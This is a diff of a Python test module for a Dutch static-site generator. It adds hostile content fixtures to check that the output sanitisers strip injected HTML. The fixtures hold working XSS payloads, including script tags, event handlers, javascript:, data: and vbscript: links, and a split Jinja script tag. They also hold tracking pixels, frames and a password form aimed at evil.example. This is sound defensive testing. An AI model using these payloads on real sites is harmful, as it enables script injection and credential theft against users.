@@ -6,6 +6,7 @@ break out of their output (script, quotes, `&` and `<`, CR/LF, bidi controls), f
 
 from __future__ import annotations
 
+import gc
 import io
 import types
 import typing
@@ -14,11 +15,12 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any, Literal
 
+import pytest
 import yaml
 from PIL import Image
 from pydantic import BaseModel, TypeAdapter, ValidationError
 from pydantic.fields import FieldInfo
-from sitebuild import REPO, SAMPLE, build_site
+from sitebuild import BUILD_DATE, REPO, SAMPLE
 
 from bench.synthetic import copy_parts
 from coplimburg.content.events import Event
@@ -37,14 +39,63 @@ PAYLOAD = (
     "\"' onmouseover=\"window.__pwned='attr'\" R&D <concept> \u202eeulb\u202c \u200fx\tx"
 )
 LINE_BREAKS = "\nna regel\n\nna een witregel"
-# A link that keeps https:// and breaks out of its attribute with a quote.
-HOSTILE_URL = 'https://example.org/a"onmouseover="window.__pwned=\'url\'"&x=<b>'
-# Raw HTML in a Markdown body is ours to trust on the site; feeds and e-mail must still lose its scripting.
-# (They only run when clicked, and set `__body`, which the page checks leave to the editors.)
-HOSTILE_BODY = (
-    "Tekst met [link](javascript:window.__body='md').\n\n"
-    "<svg><a xlink:href=\"javascript:window.__body='svg'\"><text>svg</text></a></svg>\n\n"
-    "<math><mi xlink:href=\"javascript:window.__body='math'\">m</mi></math>\n"
+# A link that keeps https:// and tries to break out of its attribute with a single quote (the loader refuses
+# addresses with `"`, `<`, `>`, a backslash or a user name: tests/test_addresses.py).
+HOSTILE_URL = "https://example.org/a'onmouseover='window.__pwned=`url`'&x=%3Cb%3E"
+# Everything an editor could write in a text that must not reach a page, a feed or an e-mail: scripts, handlers,
+# scripting and data addresses, refresh, base, frames, forms, styles, ids the theme uses, attribute lists and
+# images from elsewhere (every address elsewhere is on evil.example). `cop check` refuses each
+# (tests/test_body_html.py); the hostile site is built with that check switched off, so what reaches the outputs
+# is up to the sanitisers at the sink. Inline code and a fenced block show the same HTML as text, which must stay.
+HOSTILE_BODY = """Tekst met [link](javascript:window.__pwned='md') en [data](data:text/html;base64,PHNjcmlwdD4=).
+
+<script>window.__pwned='script';alert('script')</script>
+
+<img src="https://evil.example/pixel.png" alt="pixel" onerror="window.__pwned='img';alert('img')">
+
+![volgpixel](https://evil.example/volg.png)
+
+<p><a href="javascript:window.__pwned='a'">a</a> <a href="data:text/html,x">d</a> <a href="vbscript:msgbox(1)">v</a>
+<a href="https://www.leijgraaf.nl\\@evil.example/">backslash</a> <a href="https://leijgraaf.nl@evil.example/">gebruiker</a></p>
+
+<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
+<base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/stijl.css">
+
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/object"></object>
+<embed src="https://evil.example/embed">
+
+<form action="https://evil.example/form"><input type="password" name="wachtwoord"><button>Inloggen</button></form>
+
+<p style="background:url(javascript:window.__pwned='css')">stijl</p>
+<div id="__config" name="__md_scope">{}</div>
+<details open ontoggle="window.__pwned='toggle';alert('toggle')"><summary>meer</summary>x</details>
+
+<svg onload="window.__pwned='svg'"><a xlink:href="javascript:window.__pwned='svg'"><text>svg</text></a></svg>
+<math><mi xlink:href="javascript:window.__pwned='math'">m</mi></math>
+
+Alinea met attributen
+{: onclick="window.__pwned='attr_list'" style="background:url(https://evil.example/stijl.png)" }
+
+## Kop {: #__search onmouseover="window.__pwned='heading'" }
+
+Code blijft tekst: `<script>window.__pwned='code'</script>`.
+
+```html
+<script>window.__pwned='fence'</script>
+```
+"""
+# What the sanitisers keep of HOSTILE_BODY's code: as text.
+HOSTILE_CODE = ("<script>window.__pwned='code'</script>", "<script>window.__pwned='fence'</script>\n")
+EVIL_HOST = "evil.example"
+# The pages that show HOSTILE_BODY: one item of each collection and the docs page that mixes it with macros.
+BODY_PAGES = (
+    "innovatietafels/tafel-a/",
+    "agenda/evenement-a/",
+    "coppyright/product-a/",
+    "coppig/nieuws/bericht-a/",
+    "gemengd/",
 )
 # File names are content too: images and downloads with a quote, an angle bracket and an ampersand.
 HOSTILE_FILE = "x\"'<b>&y"
@@ -249,7 +300,8 @@ class HostileSite:
 
 def build_hostile_site(folder: Path) -> HostileSite:
     """The sample project's docs and configuration beside the repository's hooks and templates, with a
-    hostile content tree, built strictly."""
+    hostile content tree and a docs page mixing a macro with hostile HTML, built strictly with the check of HTML
+    in texts switched off (`build_unchecked`)."""
     root = folder / "repo"
     copy_parts(REPO, root, ("overrides", "hooks"))
     project = root / "tests" / "sample"
@@ -257,10 +309,45 @@ def build_hostile_site(folder: Path) -> HostileSite:
     # Pages whose macros name a sample vocabulary id ('bbl', 'onderzoek') that the hostile vocabularies do not have.
     for name in ("doelgroepen.md", "coproductie.md"):
         (project / "docs" / name).write_text("# " + name.removesuffix(".md") + "\n", encoding="utf-8")
+    (project / "docs" / MIXED_PAGE).write_text(MIXED_SOURCE, encoding="utf-8")
     hostile = write_tree(project / "content")
-    result = build_site(project, project / "site")
-    assert result.returncode == 0, result.stderr[-3000:]
+    build_unchecked(project, project / "site")
     return HostileSite(project / "site", hostile.values)
+
+
+# A docs page whose macros write our own HTML (classes, ARIA, data attributes) beside an editor's hostile HTML,
+# some of it written through Jinja, which the check cannot see.
+MIXED_PAGE = "gemengd.md"
+MIXED_SOURCE = (
+    "---\nrender_macros: true\n---\n# Gemengd\n\n{{ next_events(3) }}\n\n"
+    '<p class="cop-macro" data-cop-upcoming role="list" aria-label="nagemaakt" onclick="window.__pwned=\'mixed\'">'
+    "nagemaakt</p>\n\n{{ '<scr' ~ 'ipt>window.__pwned=\\'jinja\\'</scr' ~ 'ipt>' }}\n\n{{ partners_by_kind() }}\n\n"
+    + HOSTILE_BODY
+)
+
+
+def build_unchecked(project: Path, site_dir: Path) -> None:
+    """`mkdocs build --strict` of `project` in this process, with the loader's check of HTML in texts
+    (coplimburg.content.rawhtml) switched off for this build only: whatever hostile HTML a text holds then reaches
+    the sanitisers at the sink, which must stop it on their own. There is no switch for this outside the tests."""
+    from mkdocs.commands.build import build
+    from mkdocs.config import load_config
+
+    from coplimburg.content import loader
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(loader, "check_body_html", lambda content, documents: [])
+        patch.setenv("COP_BUILD_DATE", BUILD_DATE)
+        patch.setenv("NO_MKDOCS_2_WARNING", "1")
+        patch.setenv("SOURCE_DATE_EPOCH", "0")  # on_config sets it; undone with the rest
+        patch.chdir(project)
+        config = load_config(str(project / "mkdocs.yml"), site_dir=str(site_dir), strict=True)
+        config.plugins.on_startup(command="build", dirty=False)
+        try:
+            build(config)
+        finally:
+            config.plugins.on_shutdown()
+            gc.unfreeze()  # `mkdocs build` leaves what it loaded out of the collector (coplimburg.heap)
 
 
 def plain(text: str) -> str:
